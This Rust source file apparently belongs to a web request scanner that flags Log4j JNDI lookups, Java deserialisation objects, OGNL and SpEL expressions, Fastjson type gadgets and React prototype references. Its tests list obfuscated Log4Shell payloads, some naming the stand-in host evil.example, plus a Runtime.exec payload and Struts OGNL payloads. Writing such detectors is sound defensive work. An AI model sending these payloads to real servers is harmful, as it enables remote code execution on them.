//! Attacks on Java's and JavaScript's servers.

use alloc::vec::Vec;

use crate::marks::Marks;
use crate::statement::{contains, find};
use crate::text::{contains_small, is_compact, near, starts_with};
use crate::transform::Transformation::JsDecode;

/// Deepest lookups within each other.
const DEPTH_MAX: usize = 64;

/// A lookup of Log4j that loads code, whatever lookups hide its name.
pub(super) fn is_lookup(text: &[u8], marks: Marks) -> bool {
    const LOOKUP: Marks = Marks::any_of(b"$");
    if !marks.has(LOOKUP) || !contains(text, b"${") && !contains_small(text, b"$%7b") {
        return false;
    }
    // What each open lookup has resolved to so far; the last one is the innermost.
    let mut open: Vec<Vec<u8>> = Vec::new();
    let mut rest = text;
    while let [first, tail @ ..] = rest {
        rest = tail;
        // `${upper:ı}` is an `I`, `${lower:\u{212a}}` a `k`: letters that are of ASCII in their other case.
        let letter = match rest {
            [0xb0 | 0xb1, ..] if *first == 0xc4 => Some((b'i', 1)),
            [0xbf, ..] if *first == 0xc5 => Some((b's', 1)),
            [0x84, 0xaa, ..] if *first == 0xe2 => Some((b'k', 2)),
            _ => None,
        };
        if let Some((letter, more)) = letter {
            rest = &rest[more..];
            open.iter_mut().last().into_iter().for_each(|inner| inner.push(letter));
            continue;
        }
        match (first, tail) {
            (b'$', [b'{', tail @ ..]) => {
                if open.len() == DEPTH_MAX {
                    return true;
                }
                open.push(Vec::new());
                rest = tail;
            }
            (b'}', _) if !open.is_empty() => {
                let Some(inner) = open.pop() else { continue };
                if loads(&inner) {
                    return true;
                }
                let mut value = resolved(&inner).to_vec();
                // What a format of a date has in quotes is itself: `${date:'j'}`.
                if inner.starts_with(b"date:") {
                    value.retain(|b| *b != b'\'');
                }
                if let Some(outer) = open.last_mut() {
                    outer.extend(value);
                }
            }
            _ => {
                if let Some(inner) = open.last_mut() {
                    inner.push(first.to_ascii_lowercase());
                }
            }
        }
    }
    open.iter().any(|inner| loads(inner))
}

fn loads(lookup: &[u8]) -> bool {
    let bare = lookup.trim_ascii();
    bare.starts_with(b"jndi:")
        || bare.starts_with(b"jndii:")
        || contains(bare, b"jndi:ldap")
        || contains(bare, b"jndi:rmi")
        || contains(bare, b"jndi:dns")
        // Those of Commons Text that ask the network.
        || bare.starts_with(b"dns:address|")
        || bare.starts_with(b"url:utf-8:")
}

/// `lower:j` is `j`, `::-j` is `j`, `env:NOTHING:-j` is `j`.
fn resolved(lookup: &[u8]) -> &[u8] {
    let default = lookup.windows(2).rposition(|pair| pair == b":-").map(|at| at + 2);
    let name = || lookup.iter().position(|b| *b == b':').map(|at| at + 1);
    &lookup[default.or_else(name).unwrap_or(lookup.len())..]
}

/// A serialised object, and expressions that build one that runs something.
pub(super) fn is_deserialization(text: &[u8], marks: Marks) -> bool {
    is_object(text, marks) || is_expression(text, marks)
}

/// A serialised object, in Base64 or as it is.
fn is_object(text: &[u8], marks: Marks) -> bool {
    const BEGINNINGS: [&[u8]; 4] = [b"rO0AB", b"KztAAU", b"Cs7QAF", b"H4sIAAAAAAAA/8vPyy"];
    const BEFORE: Marks = Marks::any_of(b"=;\"(");
    let may_have = |one: &&&[u8]| marks.may_have(one);
    text.starts_with(b"\xac\xed\x00\x05")
        || starts_with(text, b"aced0005")
        || (text.len() >= 12
            && BEGINNINGS.iter().filter(may_have).any(|begins| {
                text.starts_with(begins)
                    || marks.has(BEFORE) && is_compact(text, 2) && contains(text, begins)
            }))
}

/// An expression that leads to what runs something, or names a class to make an object of.
fn is_expression(text: &[u8], marks: Marks) -> bool {
    const NAMES: [&[u8]; 10] = [
        b"java.lang.runtime",
        b"java.lang.processbuilder",
        b"getruntime().exec",
        b"class.module.classloader",
        b"classloader.resources.context",
        b"t(java.lang",
        b"#_memberaccess",
        b"javax.script.scriptenginemanager",
        b"com.sun.rowset.jdbcrowsetimpl",
        b"org.apache.commons.collections.functors",
    ];
    const MARKED: Marks = Marks::any_of(b".#");
    const OGNL: Marks = Marks::any_of(b"{#");
    const TYPED: Marks = Marks::any_of(b"@type");
    const ESCAPED: Marks = Marks::any_of(b"type\"\\");
    let may_name = NAMES.iter().any(|name| marks.may_have(name));
    let (may_be_ognl, may_type) = (marks.has(OGNL), marks.has_all(TYPED));
    let may_escape = marks.has_all(ESCAPED);
    marks.has(MARKED)
        && (may_name || may_be_ognl || may_type || may_escape)
        && text.len() >= 6
        && is_compact(text, 8)
        && (may_name && names_one(text, &NAMES)
            || may_be_ognl && is_ognl(text)
            || may_type && types_object(text)
            || may_escape && contains(text, b"type\"") && types_object(&JsDecode.reveal(text)))
}

/// `{"@type":"java.net.InetAddress"}`: the class of an object that Fastjson is to make.
fn types_object(text: &[u8]) -> bool {
    let mut rest = text;
    while let Some(at) = find(rest, b"@type") {
        rest = &rest[at + 5..];
        let is_quote = |b: &u8| matches!(b, b'"' | b'\'');
        let behind = rest.strip_prefix(b"\"").or(rest.strip_prefix(b"'")).unwrap_or(rest);
        let Some(value) = behind.trim_ascii_start().strip_prefix(b":") else { continue };
        let value = value.trim_ascii_start();
        let value = &value[value.iter().take(1).take_while(|b| is_quote(b)).count()..];
        let within = |b: &u8| crate::transform::is_word(*b) || b".$[;".contains(b);
        if is_class(&value[..near(value).iter().take_while(|b| within(b)).count()]) {
            return true;
        }
    }
    false
}

/// `com.example.Place`, `Lcom.example.Place;`: a class of Java in its package, which no type of JSON-LD is.
pub(super) fn is_class(name: &[u8]) -> bool {
    let name = name.strip_prefix(b"[").unwrap_or(name);
    let name = name.strip_prefix(b"L").filter(|_| name.ends_with(b";")).unwrap_or(name);
    let name = name.strip_suffix(b";").unwrap_or(name);
    let mut packages = 0;
    let mut parts = name.split(|b| *b == b'.').peekable();
    while let Some(part) = parts.next() {
        let is_last = parts.peek().is_none();
        let Some(first) = part.first() else { return false };
        if is_last {
            return packages > 1 && first.is_ascii_uppercase();
        }
        let is_package = |b: &u8| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'_';
        if !part.iter().all(is_package) {
            return false;
        }
        packages += 1;
    }
    false
}

/// `%{(#a=1).(#b=#a)}`, `${@java.lang.System@getenv()}`: an expression of OGNL that sets a variable or goes to a class.
fn is_ognl(text: &[u8]) -> bool {
    if !text.iter().any(|b| matches!(b, b'#' | b'@')) {
        return false;
    }
    let is_word = crate::transform::is_word;
    let variable = |rest: &[u8]| {
        let name = rest.iter().take(32).take_while(|b| is_word(**b)).count();
        let behind = rest[name..].trim_ascii_start();
        // `(#context["name"]=false)`
        let is_member = || matches!(behind, [b'[', b'"' | b'\'', ..]);
        name > 0 && (matches!(behind, [b'=', next, ..] if *next != b'=') || is_member())
    };
    let class = |rest: &[u8]| {
        let name = rest.iter().take(80).take_while(|b| is_word(**b) || **b == b'.').count();
        let (name, behind) = rest.split_at(name);
        name.contains(&b'.') && matches!(behind, [b'@', next, ..] if is_word(*next))
    };
    let begins = text.windows(2).position(|w| matches!(w, b"%{" | b"${" | b"(#"));
    begins.is_some_and(|begins| {
        text[begins..].iter().enumerate().any(|(at, byte)| {
            let rest = &text[begins + at + 1..];
            // `%{#application}`, `%{#a['b']}`
            let is_first = at == 2 && text[begins] == b'%';
            match byte {
                b'#' => variable(rest) || is_first && rest.first().is_some_and(|b| is_word(*b)),
                b'@' => class(rest),
                _ => false,
            }
        })
    })
}

/// Whether one of several names is in a text: looked for where the mark is that each of them has.
fn names_one(text: &[u8], all: &[&[u8]]) -> bool {
    let is_mark = |b: &u8| matches!(b, b'.' | b'#');
    text.iter().enumerate().filter(|(_, b)| is_mark(b)).any(|(at, _)| {
        all.iter().any(|name| {
            let before = name.iter().position(is_mark).unwrap_or(0);
            let named = at.checked_sub(before).map(|start| &text[start..]);
            // `java.lang.RuntimeException` is another class, which traces are full of.
            named.is_some_and(|text| {
                starts_with(text, name)
                    && !text.get(name.len()).is_some_and(u8::is_ascii_alphabetic)
            })
        })
    })
}

/// References of React's server functions that lead to a constructor.
pub(super) fn is_react(text: &[u8], marks: Marks) -> bool {
    // Both have these.
    const NAMED: Marks = Marks::any_of(b":rot");
    marks.has_all(NAMED)
        && (contains(text, b":__proto__:") || contains(text, b":constructor:constructor"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_lookup(text: &[u8]) -> bool {
        super::is_lookup(text, Marks::of(text))
    }

    fn is_deserialization(text: &[u8]) -> bool {
        super::is_deserialization(text, Marks::of(text))
    }

    fn is_react(text: &[u8]) -> bool {
        super::is_react(text, Marks::of(text))
    }

    #[test]
    fn no_text_is_passed_over_by_its_marks_that_leads_to_code() {
        for text in crate::samples::texts() {
            let marks = Marks::of(&text);
            let with = |more: &[u8]| marks.with(Marks::LETTERS).with(Marks::any_of(more));
            let shown = text.escape_ascii();
            assert_eq!(is_lookup(&text), super::is_lookup(&text, with(b"$")), "{shown}");
            assert_eq!(is_object(&text, marks), is_object(&text, with(b"0/")), "{shown}");
            let all = with(b"@:{\"\\()_");
            assert_eq!(is_expression(&text, marks), is_expression(&text, all), "{shown}");
            assert_eq!(is_react(&text), super::is_react(&text, with(b":")), "{shown}");
        }
    }

    #[test]
    fn lookups_are_found_however_they_are_hidden() {
        let attacks: [&[u8]; 14] = [
            b"${${date:'j'}${date:'n'}di:ldap://x/a}",
            b"${j${date:''}ndi:ldap://x/a}",
            "${jn${lower:d}${upper:ı}:ldap://x}".as_bytes(),
            "${jnd${lower:\u{130}}:dns://x}".as_bytes(),
            "${jndi:dn${upper:\u{17f}}://x}".as_bytes(),
            b"${dns:address|evil.example}",
            b"${url:UTF-8:http://evil.example}",
            b"${jndi:ldap://x/a}",
            b"x${JNDI:dns://x}",
            b"${${lower:j}ndi:rmi://x}",
            b"${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
            b"${${env:X:-j}ndi${env:Y:-:}ldap://x}",
            b"${jndi:${lower:l}dap://x",
            b"${${upper:${lower:j}}ndi:ldap://x}",
        ];
        for attack in attacks {
            assert!(is_lookup(attack), "{}", attack.escape_ascii());
        }
        for benign in [&b"${name}"[..], b"{jndi:x}", b"cost ${5}", b"${date:yyyy}", b"$"] {
            assert!(!is_lookup(benign), "{}", benign.escape_ascii());
        }
    }

    #[test]
    fn objects_and_expressions_of_java_are_found() {
        assert!(is_deserialization(b"rO0ABXNyABFqYXZhLnV0aWw="));
        assert!(is_deserialization(b"class.module.classLoader.resources.context.parent"));
        assert!(is_deserialization(b"T(java.lang.Runtime).getRuntime().exec('id')"));
        for expression in [
            "%{(#a='x').(#b=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "%{#application}",
            "${@java.lang.System@getenv()}",
            "(#context[\"a\"]=false)",
        ] {
            assert!(is_deserialization(expression.as_bytes()), "{expression}");
        }
        for text in ["@a@b.example (#5)", "${#list}", "%{name} (#12)", "see (#12).", "#a=1"] {
            assert!(!is_deserialization(text.as_bytes()), "{text}");
        }
        for typed in [
            "{\"@type\":\"java.net.URL\",\"val\":\"http://x\"}",
            "{\"\\u0040type\":\"java.net.URL\"}",
            "{'@type' : 'Lorg.acme.pool.Source;'}",
            "{\"a\":{\"@type\":\"com.acme.Rows$Set\"}}",
        ] {
            assert!(is_deserialization(typed.as_bytes()), "{typed}");
        }
        for typed in [
            "{\"@type\":\"Person\"}",
            "{\"@type\":\"schema.org/Person\"}",
            "{\"@type\":\"type.googleapis.com/acme.v1.Order\"}",
            "{\"@type\":\"acme.Order\"}",
            "the @type: java.util.List is a list",
        ] {
            assert_eq!(is_deserialization(typed.as_bytes()), typed.starts_with("the"), "{typed}");
        }
        assert!(!is_deserialization(b"SGVsbG8gV29ybGQ="));
        assert!(!is_deserialization(
            b"Why does java.lang.Runtime give me another number of processors than I have?"
        ));
        for trace in [
            "java.lang.RuntimeException: no rows",
            "java.lang.RuntimePermission",
            "Caused by: java.lang.RuntimeException",
        ] {
            assert!(!is_deserialization(trace.as_bytes()), "{trace}");
        }
        assert!(is_deserialization(b"new java.lang.Runtime"));
        assert!(is_react(b"$1:__proto__:then") && !is_react(b"__proto__"));
    }
}
